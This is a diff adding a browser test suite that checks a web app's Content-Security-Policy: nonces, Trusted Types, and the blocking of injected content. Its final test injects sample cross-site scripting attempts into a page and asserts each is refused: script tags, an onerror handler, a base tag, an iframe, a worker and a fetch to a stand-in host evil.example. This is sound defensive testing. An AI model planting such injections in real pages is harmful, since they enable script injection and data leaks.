@@ -1,0 +1,179 @@
+import { readFile } from 'node:fs/promises';
+import {
+  chromiumMissing,
+  launchChromium,
+  startServer,
+  type TestServer,
+  until,
+} from '@scrollback/testing';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { type PolicyWatch, watchPolicy } from './watch-policy.ts';
+
+const PATIENT = { timeout: 60_000 };
+const fixture = new URL('../../../packages/normalize/fixtures/claude.jsonl', import.meta.url);
+
+describe.skipIf(chromiumMissing())('what pages may do', { timeout: 240_000 }, () => {
+  let browser: Browser;
+  let server: TestServer;
+
+  beforeAll(async () => {
+    [browser, server] = await Promise.all([launchChromium(), startServer({ web: true })]);
+  });
+  afterAll(async () => {
+    await browser?.close();
+    await server?.[Symbol.asyncDispose]();
+  });
+
+  async function send(query: string, body: string): Promise<string> {
+    const response = await fetch(`${server.url}/api/ingest?${query}`, { method: 'POST', body });
+    const { id } = await response.json();
+    return id;
+  }
+
+  async function withPage(use: (page: Page, watch: PolicyWatch) => Promise<void>): Promise<void> {
+    const page = await browser.newPage({ viewport: { width: 1200, height: 800 } });
+    page.setDefaultTimeout(PATIENT.timeout);
+    try {
+      await use(page, await watchPolicy(page));
+    } finally {
+      await page.close();
+    }
+  }
+
+  test('every page gets along with a policy that allows nothing inline and nothing remote', async () => {
+    const agent = await send('name=agent&format=claude', await readFile(fixture, 'utf8'));
+    const [a, b] = [
+      await send('name=a&task=Nightly', '\x1b[1;31mred\x1b[0m https://example.org/\n{"a":[1,2]}\n'),
+      await send('name=b&task=Nightly', 'blue\n'),
+    ];
+    const { data } = await ask(server.url, '{ tasks(first: 1) { nodes { id } } }');
+    const task = data.tasks.nodes[0].id;
+    const pages: [path: string, isThere: (page: Page) => Promise<void>][] = [
+      ['/', (page) => page.getByRole('list', { name: 'Runs, newest first' }).waitFor()],
+      [`/runs/${a}`, (page) => page.getByText('red').waitFor()],
+      [`/runs/${a}?view=terminal`, (page) => page.locator('.xterm-screen').waitFor()],
+      [`/runs/${a}?view=details`, (page) => page.getByLabel('Compare with another run').waitFor()],
+      [`/runs/${agent}?view=activity`, (page) => page.getByRole('article').first().waitFor()],
+      [`/runs/run_00000000000000000000000000`, (page) => page.getByText('no such run').waitFor()],
+      [`/compare?a=${a}&b=${b}`, (page) => page.locator('.compare-row').first().waitFor()],
+      ['/tasks', (page) => page.getByText('Nightly').first().waitFor()],
+      [`/tasks/${task}`, (page) => page.getByText('Nightly').first().waitFor()],
+      ['/containers', (page) => page.getByRole('heading').first().waitFor()],
+      ['/settings', (page) => page.getByRole('heading').first().waitFor()],
+      ['/login', (page) => page.getByRole('heading').first().waitFor()],
+      ['/no/such/page', (page) => page.getByRole('heading').first().waitFor()],
+    ];
+    await withPage(async (page, watch) => {
+      for (const [path, isThere] of pages) {
+        const response = await page.goto(`${server.url}${path}`);
+        await isThere(page);
+        const { 'content-security-policy': policy = '' } = response?.headers() ?? {};
+        expect(policy, path).toMatch(/script-src 'nonce-[\w+/=]{22,}' 'strict-dynamic';/);
+        expect(policy, path).toContain("require-trusted-types-for 'script'");
+        expect(policy, path).not.toContain('unsafe');
+        expect(watch.refused(), path).toEqual([]);
+      }
+    });
+  });
+
+  test('going from page to page, panels and dialogs get along with it too', async () => {
+    const id = await send('name=walk', 'here\n');
+    await withPage(async (page, watch) => {
+      await page.goto(server.url);
+      await page.locator(`a[href="/runs/${id}"]`).first().click();
+      await page.getByRole('log').getByText('here').waitFor();
+      await page.keyboard.press('?');
+      await page.getByRole('dialog').waitFor();
+      await page.keyboard.press('Escape');
+      await page.keyboard.press('Control+k');
+      await page.getByRole('dialog').waitFor();
+      await page.keyboard.press('Escape');
+      await page.getByRole('button', { name: 'How lines are shown' }).click();
+      await page.getByRole('menuitemradio', { name: 'Roomy' }).click();
+      await page.keyboard.press('Escape');
+      await page.keyboard.press('2');
+      await page.locator('.xterm-screen').waitFor();
+      await page.keyboard.press('1');
+      await page.getByRole('log').getByText('here').waitFor();
+      expect(watch.refused()).toEqual([]);
+    });
+  });
+
+  test('each answer has a nonce of its own', async () => {
+    const nonces = await Promise.all(
+      Array.from({ length: 5 }, async () => {
+        const { headers } = await fetch(server.url);
+        return /'nonce-([^']+)'/.exec(headers.get('content-security-policy') ?? '')?.[1];
+      }),
+    );
+    expect(new Set(nonces).size).toBe(5);
+    expect(nonces).not.toContain(undefined);
+  });
+
+  test('what is put into a page neither runs nor loads', async () => {
+    await withPage(async (page, watch) => {
+      await page.goto(`${server.url}/login`);
+      await page.getByRole('heading').first().waitFor();
+      expect(watch.refused()).toEqual([]);
+      await page.evaluate(() => {
+        const put = (name: string, attributes: Record<string, string>, text = '') => {
+          const element = document.createElement(name);
+          for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
+          element.append(text);
+          document.body.append(element);
+        };
+        const attempts = [
+          () => put('img', { src: 'https://evil.example/pixel.png' }),
+          () => put('img', { src: 'data:,', onerror: 'document.title = "owned"' }),
+          () => put('script', {}, 'document.title = "owned"'),
+          () => put('script', { src: '/api/runs/run_1/log' }),
+          () => put('div', { style: 'position:fixed' }),
+          () => put('base', { href: 'https://evil.example/' }),
+          () => put('iframe', { src: 'https://evil.example/' }),
+          () => {
+            document.body.insertAdjacentHTML('beforeend', '<b>owned</b>');
+          },
+          () => new Worker('https://evil.example/worker.js'),
+          () => void fetch('https://evil.example/').catch(() => undefined),
+        ];
+        for (const attempt of attempts) {
+          try {
+            attempt();
+          } catch {
+            // Refused, which is told as an event too.
+          }
+        }
+      });
+      const expected = [
+        'img-src https://evil.example',
+        'require-trusted-types-for trusted-types-sink Element onerror',
+        'require-trusted-types-for trusted-types-sink Element insertAdjacentHTML',
+        'require-trusted-types-for trusted-types-sink Worker constructor',
+        "This document requires 'TrustedScript' assignment. An HTMLScriptElement was directly",
+        'require-trusted-types-for trusted-types-sink HTMLScriptElement src',
+        'style-src-attr inline',
+        'base-uri https://evil.example',
+        'frame-src https://evil.example',
+        'connect-src https://evil.example',
+      ];
+      await until(() => {
+        const told = watch.refused();
+        const missing = expected.filter((start) => !told.some((it) => it.startsWith(start)));
+        expect(missing, told.join('\n')).toEqual([]);
+        return true;
+      }, PATIENT);
+      expect(await page.title()).not.toContain('owned');
+      expect(await page.locator('b').count()).toBe(0);
+    });
+  });
+});
+
+async function ask(url: string, query: string) {
+  const response = await fetch(`${url}/graphql`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ query }),
+  });
+  return response.json();
+}
